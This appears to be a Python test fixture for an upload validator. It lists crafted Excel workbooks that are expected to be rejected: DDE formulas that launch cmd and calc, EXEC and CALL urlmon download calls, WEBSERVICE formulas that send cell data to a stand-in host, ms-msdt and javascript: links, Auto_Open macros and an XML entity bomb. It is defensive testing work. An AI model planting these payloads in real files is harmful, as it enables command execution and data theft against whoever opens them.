"""Excel files that must not be kept, each for one reason: what it fetches, runs, hides or carries."""

from tests.services.forms.uploads.office import OFFICE, SHEETS, VML, formula, rel, sheet

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
BOMB = '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
SHARE = "\\\\x.example\\a"
CONNECTIONS = {"xl/connections.xml": f"{SHEETS}.connections+xml"}

EXCEL: dict[str, tuple[bytes, str]] = {
    "Excel that fetches from a database": (
        sheet(types=CONNECTIONS, more={"xl/connections.xml": "<a/>"}),
        "fetches_content",
    ),
    "Excel that fetches from a query": (
        sheet(
            "", rel("queryTable", "../a.xml"), types={"xl/a.xml": f"{SHEETS}.queryTable+xml"}, more={"xl/a.xml": "<a/>"}
        ),
        "fetches_content",
    ),
    "Excel that takes numbers of another file": (
        sheet(types={"xl/a.xml": f"{SHEETS}.externalLink+xml"}, more={"xl/a.xml": "<a/>"}),
        "fetches_content",
    ),
    "Excel that takes numbers of a share": (sheet("", rel("externalLinkPath", SHARE, "External")), "fetches_content"),
    "Excel with numbers that change by themselves": (
        sheet(types={"xl/a.xml": f"{SHEETS}.volatileDependencies+xml"}, more={"xl/a.xml": "<a/>"}),
        "fetches_content",
    ),
    "Excel that fetches by a formula": (formula('WEBSERVICE("https://x.example/?"&A1)'), "fetches_content"),
    "Excel that fetches by a newer formula": (formula('_xlfn.WEBSERVICE("https://x.example")'), "fetches_content"),
    "Excel that fetches a picture by a formula": (formula('_xlfn.IMAGE("https://x.example/a.png")'), "fetches_content"),
    "Excel that asks a program by a formula": (formula("cmd|'/C calc'!A0"), "fetches_content"),
    "Excel that asks a program in quotes": (formula("'cmd'|'/C calc'!'A0'"), "fetches_content"),
    "Excel that asks a server": (formula('RTD("a.b",,"c")'), "fetches_content"),
    "Excel that calls a library": (formula('CALL("urlmon","URLDownloadToFileA","JJ")'), "fetches_content"),
    "Excel that runs a program by an old macro": (formula('1+EXEC("calc")'), "fetches_content"),
    "Excel with a function of a program of its own": (formula("_xll.Wobble(1)"), "fetches_content"),
    "Excel with a cell of another file": (formula("[1]Sheet1!A1+1"), "fetches_content"),
    "Excel with a cell of a file on a share": (formula("'\\\\x.example\\[a.xlsx]Sheet1'!A1"), "fetches_content"),
    "Excel with a link in a formula to a share": (formula('HYPERLINK("\\\\x.example\\a","Xem")'), "unsafe_link"),
    "Excel with a link in a formula to a script": (formula('HYPERLINK("javascript:a")'), "unsafe_link"),
    "Excel with a link that is calculated": (formula('HYPERLINK("ht"&A1,"Xem")'), "unsafe_link"),
    "Excel with a link to a share": (sheet("", rel("hyperlink", SHARE, "External")), "unsafe_link"),
    "Excel with a link to a help program": (sheet("", rel("hyperlink", "ms-msdt:/id", "External")), "unsafe_link"),
    "Excel that asks a program by a name": (
        sheet(book="<definedNames><definedName name='a'>cmd|'/C calc'!A0</definedName></definedNames>"),
        "fetches_content",
    ),
    "Excel with a name that starts by itself": (
        sheet(book="<definedNames><definedName name='_xlnm.Auto_Open' xlm='1'>a!$A$1</definedName></definedNames>"),
        "macros",
    ),
    "Excel that asks a program by a colour": (
        sheet("<conditionalFormatting><cfRule><formula>cmd|'/C calc'!A0</formula></cfRule></conditionalFormatting>"),
        "fetches_content",
    ),
    "Excel that fetches when somebody types": (
        sheet(
            '<dataValidations><dataValidation><formula1>WEBSERVICE("https://x")</formula1></dataValidation></dataValidations>'
        ),
        "fetches_content",
    ),
    "Excel that asks a program by a link": (sheet("<ddeLink ddeService='cmd' ddeTopic='/C calc'/>"), "fetches_content"),
    "Excel with an object": (sheet("<oleObjects><oleObject progId='Package'/></oleObjects>"), "embedded_file"),
    "Excel that publishes itself": (
        sheet("<webPublishItems><webPublishItem destinationFile='a'/></webPublishItems>"),
        "acts_by_itself",
    ),
    "Excel with a formula behind a formula": (
        sheet('<formula1><f>1</f>WEBSERVICE("https://x.example")</formula1>'),
        "fetches_content",
    ),
    "Excel with a formula in pieces": (
        sheet('<c><f>SUM<a xmlns="urn:a"/>(WEBSERVICE("https://x.example"))</f></c>'),
        "hidden_content",
    ),
    "Excel with a sheet of macros": (
        sheet(types={"xl/a.xml": "application/vnd.ms-excel.macrosheet+xml"}, more={"xl/a.xml": "<a/>"}),
        "macros",
    ),
    "Excel with a model of data": (
        sheet(types={"xl/a.data": "application/vnd.openxmlformats-officedocument.model+data"}, more={"xl/a.data": "a"}),
        "unknown_part",
    ),
    "Excel that defines entities in its cells": (sheet(more={"xl/worksheets/sheet1.xml": BOMB}), "xml_entities"),
    "Excel with a drawing that defines entities": (
        sheet(types={".vml": f"{OFFICE}.vmlDrawing"}, more={"xl/a.vml": BOMB}),
        "xml_entities",
    ),
    "Excel that fetches a picture by an old drawing": (
        sheet(
            types={".vml": f"{OFFICE}.vmlDrawing"},
            more={"xl/a.vml": f'<xml xmlns:v="{VML}"><v:fill src="//x.example/a.png"/></xml>'},
        ),
        "fetches_content",
    ),
}
"""A person's words → bytes, the code of the refusal."""
